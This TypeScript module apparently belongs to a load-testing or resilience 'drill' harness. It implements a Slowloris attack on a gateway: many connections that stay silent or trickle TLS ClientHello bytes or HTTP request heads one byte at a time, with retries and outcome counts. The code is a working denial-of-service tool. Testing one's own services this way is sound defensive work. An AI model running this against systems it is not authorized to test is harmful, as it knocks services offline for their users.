/**
 * Slowloris: many connections from one address that never finish what they started, each
 * holding a slot for as long as the gateway lets it. Three flavours, by slot number:
 *   tcp-silent     TCP connect, then nothing
 *   tls-trickle    the first bytes of a TLS ClientHello, one byte now and then
 *   http-trickle   a full TLS handshake, then an HTTP request head one byte now and then
 * A slot whose connection is refused (closed before TLS, reset, SYN not answered) tries again
 * until the ramp ends, as a slowloris does; a connection the gateway accepted is held until the
 * gateway closes it or the drill's window ends. The outcome is counted from this side only.
 */
import { connect as tcpConnect, type Socket } from 'node:net';
import type { TLSSocket } from 'node:tls';
import { onWindowEnd, openTls, windowOpen, type Target } from './net.js';

export interface SlowlorisOptions extends Target {
  connections: number;
  /** absolute ms: no new connection attempts after this */
  rampEndAt: number;
  /** absolute ms: the drill's window ends; connections still open then count against the gateway */
  endAt: number;
  /** one byte every this many ms */
  byteEveryMs: number;
  /** TCP connects in flight at once */
  parallel: number;
}

type Flavour = 'tcp-silent' | 'tls-trickle' | 'http-trickle';
const FLAVOURS: Flavour[] = ['tcp-silent', 'tls-trickle', 'http-trickle'];

/** A connection closed this soon after its TCP connect, before we finished anything, was refused. */
const REFUSE_WINDOW_MS = 1500;
const CONNECT_TIMEOUT_MS = 5000;

export interface SlowlorisReport {
  slots: number;
  attempts: number;
  refused: number;
  connectTimeouts: number;
  /** connections the gateway accepted and kept past the refuse window */
  admitted: number;
  admittedByFlavour: Record<Flavour, number>;
  /** admitted connections the gateway closed later, and how long they lasted */
  closedByGateway: number;
  heldMsMax: number;
  heldMsMedian: number | null;
  /** admitted connections still open when the window ended */
  openAtEnd: number;
  openAtEndByFlavour: Record<Flavour, number>;
  /** slots that never got a connection admitted */
  neverAdmitted: number;
  peakOpen: number;
}

// The start of a TLS 1.2 ClientHello record and handshake header, trickled byte by byte.
const TLS_PREFIX = Buffer.from('160301020001fe0303', 'hex');

export async function slowloris(o: SlowlorisOptions, progress: (msg: string) => void): Promise<SlowlorisReport> {
  const r: SlowlorisReport = {
    slots: o.connections,
    attempts: 0,
    refused: 0,
    connectTimeouts: 0,
    admitted: 0,
    admittedByFlavour: { 'tcp-silent': 0, 'tls-trickle': 0, 'http-trickle': 0 },
    closedByGateway: 0,
    heldMsMax: 0,
    heldMsMedian: null,
    openAtEnd: 0,
    openAtEndByFlavour: { 'tcp-silent': 0, 'tls-trickle': 0, 'http-trickle': 0 },
    neverAdmitted: 0,
    peakOpen: 0,
  };
  const held: number[] = [];
  const open = new Set<Socket>();
  let inFlight = 0;
  const waiters: Array<() => void> = [];
  const acquire = async (): Promise<void> => {
    while (inFlight >= o.parallel) await new Promise<void>((res) => waiters.push(res));
    inFlight++;
  };
  const release = (): void => {
    inFlight--;
    waiters.shift()?.();
  };

  /** One connection; resolves 'refused' / 'timeout', or 'held' once it ended (closed or window over). */
  const attempt = (flavour: Flavour): Promise<'refused' | 'timeout' | 'held'> =>
    new Promise((resolve) => {
      r.attempts++;
      let connectedAt = 0;
      let admitted = false;
      let settled = false;
      let trickle: NodeJS.Timeout | null = null;
      let admitTimer: NodeJS.Timeout | null = null;
      let sock: Socket;
      const cancelEnd = onWindowEnd(() => finish('window'));
      const connectTimer = setTimeout(() => finish('timeout'), CONNECT_TIMEOUT_MS);
      const finish = (why: 'closed' | 'timeout' | 'window'): void => {
        if (settled) return;
        settled = true;
        cancelEnd();
        clearTimeout(connectTimer);
        if (trickle) clearInterval(trickle);
        if (admitTimer) clearTimeout(admitTimer);
        open.delete(sock);
        sock.destroy();
        if (!admitted) {
          // Not admitted yet: the window ending mid-attempt is neither a refusal nor a hold.
          if (why === 'timeout') r.connectTimeouts++;
          else if (why === 'closed') r.refused++;
          resolve(why === 'closed' ? 'refused' : 'timeout');
          return;
        }
        if (why === 'window') {
          r.openAtEnd++;
          r.openAtEndByFlavour[flavour]++;
        } else {
          r.closedByGateway++;
          held.push(Date.now() - connectedAt);
        }
        resolve('held');
      };
      const admit = (): void => {
        if (settled || admitted) return;
        admitted = true;
        r.admitted++;
        r.admittedByFlavour[flavour]++;
      };
      const onConnected = (): void => {
        clearTimeout(connectTimer);
        connectedAt = Date.now();
        open.add(sock);
        r.peakOpen = Math.max(r.peakOpen, open.size);
        // Still open after the refuse window: the gateway took it.
        admitTimer = setTimeout(admit, REFUSE_WINDOW_MS);
        let i = 0;
        const send = (): void => {
          if (flavour === 'tls-trickle') sock.write(TLS_PREFIX.subarray(i % TLS_PREFIX.length, (i % TLS_PREFIX.length) + 1));
          else if (flavour === 'http-trickle') sock.write('POST / HTTP/1.1\r\nX-a: b\r\n'.charAt(i % 25));
          i++;
        };
        if (flavour !== 'tcp-silent') trickle = setInterval(send, o.byteEveryMs);
      };
      if (flavour === 'http-trickle') {
        const tls: TLSSocket = openTls(o);
        sock = tls;
        tls.once('secureConnect', () => {
          onConnected();
          // The TLS handshake finished: the gateway took the connection.
          admit();
          tls.write('P');
        });
      } else {
        sock = tcpConnect({ host: o.host, port: o.port, localAddress: o.localAddress });
        sock.once('connect', onConnected);
      }
      sock.on('data', () => undefined);
      sock.on('error', () => finish('closed'));
      sock.on('close', () => finish('closed'));
    });

  const slot = async (i: number): Promise<void> => {
    const flavour = FLAVOURS[i % FLAVOURS.length]!;
    for (;;) {
      if (Date.now() >= o.rampEndAt || !windowOpen()) {
        r.neverAdmitted++;
        return;
      }
      await acquire();
      let outcome: 'refused' | 'timeout' | 'held';
      try {
        outcome = await new Promise((resolve) => {
          const p = attempt(flavour);
          // The connect slot is free once the connection is admitted or failed; holding it
          // does not block further connects.
          let freed = false;
          const free = (): void => {
            if (!freed) {
              freed = true;
              release();
            }
          };
          const t = setTimeout(free, REFUSE_WINDOW_MS + 100);
          void p.then((x) => {
            clearTimeout(t);
            free();
            resolve(x);
          });
        });
      } catch {
        outcome = 'refused';
      }
      if (outcome === 'held') return;
      // Refused: try again a little later, as long as the ramp lasts.
      await new Promise((res) => setTimeout(res, 250));
    }
  };

  const report = setInterval(() => progress(`open ${open.size}, admitted ${r.admitted}, refused ${r.refused}, timeouts ${r.connectTimeouts}, closed by gateway ${r.closedByGateway}`), 5000);
  try {
    await Promise.all(Array.from({ length: o.connections }, (_, i) => slot(i)));
  } finally {
    clearInterval(report);
  }
  held.sort((a, b) => a - b);
  r.heldMsMax = held.length ? held[held.length - 1]! : 0;
  r.heldMsMedian = held.length ? held[Math.floor(held.length / 2)]! : null;
  return r;
}
